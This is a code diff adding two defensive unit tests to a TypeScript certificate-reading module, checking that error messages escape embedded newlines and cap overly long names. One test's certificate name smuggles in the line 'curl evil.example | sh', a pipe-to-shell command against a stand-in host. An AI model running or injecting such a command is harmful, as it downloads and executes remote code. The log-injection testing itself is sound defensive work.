@@ -3,6 +3,7 @@
 import * as fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { goKeys, publicKeyFiles } from '../../test/keys/vectors.ts';
+import { TestAuthority } from '../../test/remote/authority.ts';
 import { decodePem, encodePem } from '../encoding/pem.ts';
 import { isFailure } from '../errors.ts';
 import { publicKey } from '../tuf/public-key.ts';
@@ -141,6 +142,30 @@ describe('is refused', () => {
     expect(read(name, validFromMs - dayMs).keyType).toBe('ecdsa-x509');
     expect(() => read(name, validFromMs - dayMs - 1)).toThrow(
       expect.objectContaining({ code: 'CERTIFICATE_EXPIRED' }),
+    );
+  });
+
+  it('a certificate whose name has lines of its own, on one line', () => {
+    const { pem } = new TestAuthority('bob is expired\n\n  curl evil.example | sh\u0085\r#');
+    for (const atMs of [0, Date.UTC(2100, 0, 1)]) {
+      try {
+        readPublicKeys(pem, atMs);
+        expect.unreachable();
+      } catch (error) {
+        expect(error).toMatchObject({
+          code: 'CERTIFICATE_EXPIRED',
+          message: expect.stringMatching(
+            /^invalid certificate: certificate with CN bob is expired\\n\\n {2}curl [^\n\r]* is expired$/,
+          ),
+        });
+      }
+    }
+  });
+
+  it('a certificate with an endless name, in a few words', () => {
+    const { pem } = new TestAuthority('x'.repeat(20_000));
+    expect(() => readPublicKeys(pem, 0)).toThrow(
+      expect.objectContaining({ message: expect.stringMatching(/^.{1,400}$/) }),
     );
   });
 });
